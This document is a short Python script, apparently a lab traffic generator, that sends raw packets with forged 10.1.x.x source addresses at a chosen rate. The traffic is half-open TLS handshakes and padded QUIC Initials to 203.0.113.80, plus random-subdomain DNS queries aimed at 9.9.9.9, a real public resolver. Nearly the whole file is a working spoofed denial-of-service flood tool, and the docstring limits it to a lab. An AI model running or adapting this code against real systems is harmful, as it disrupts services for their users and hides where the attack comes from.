#!/usr/bin/env python3
"""flood.py SECONDS RATE SOURCES: half TLS hellos, DNS questions and QUIC Initials that hold nothing, in turn, from
10.1.1.0 up, spoofed: so many a second, so long. In the client of tools/lab/net.sh only."""
import random
import socket
import struct
import sys
import time

SECONDS, RATE, SOURCES = float(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
WEB, RESOLVER = socket.inet_aton("203.0.113.80"), socket.inet_aton("9.9.9.9")
HALF_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(49)


def checksum(data):
    data += b"\0" * (len(data) & 1)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xffff)
    return ~total & 0xffff


def ip(source, dest, proto, payload):
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.getrandbits(16), 0, 64, proto, 0,
                       source, dest) + payload


def tcp(source, port, seq, flags, payload):
    head = struct.pack("!HHIIBBHHH", port, 443, seq, flags != 2, 0x50, flags, 65535, 0, 0)
    pseudo = source + WEB + struct.pack("!BBH", 0, 6, len(head) + len(payload))
    return head[:16] + struct.pack("!H", checksum(pseudo + head + payload)) + head[18:] + payload


def udp(port, dport, payload):
    return struct.pack("!HHHH", port, dport, 8 + len(payload), 0) + payload


def half_hello(source, port):
    seq = random.getrandbits(31)
    return [ip(source, WEB, 6, tcp(source, port, seq, 2, b"")),
            ip(source, WEB, 6, tcp(source, port, seq + 1, 0x18, HALF_HELLO))]


def question(source, port):
    label = b"%08x" % random.getrandbits(32)
    message = struct.pack("!HHHHHH", random.getrandbits(16), 0x100, 1, 0, 0, 0) + b"\x08" + label + \
        b"\x07example\x03org\0\0\1\0\1"
    return [ip(source, RESOLVER, 17, udp(port, 53, message))]


def initial(source, port):
    message = b"\xc3\0\0\0\1\x08" + random.randbytes(8) + b"\0\0" + struct.pack("!H", 0x4000 | 1180)
    return [ip(source, WEB, 17, udp(port, 443, message + random.randbytes(1180)))]


def main():
    kinds = half_hello, question, initial
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start, sent = time.monotonic(), 0
    while (passed := time.monotonic() - start) < SECONDS:
        if sent > passed * RATE:
            time.sleep(0.002)
            continue
        number = random.randrange(SOURCES)
        source = socket.inet_aton(f"10.1.{1 + number // 250}.{1 + number % 250}")
        for packet in kinds[sent % 3](source, random.randint(1024, 65535)):
            try:
                sock.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
            except OSError:     # no room: the next one
                pass
        sent += 1
    print(f"{sent} in {passed:.1f} s")


main()
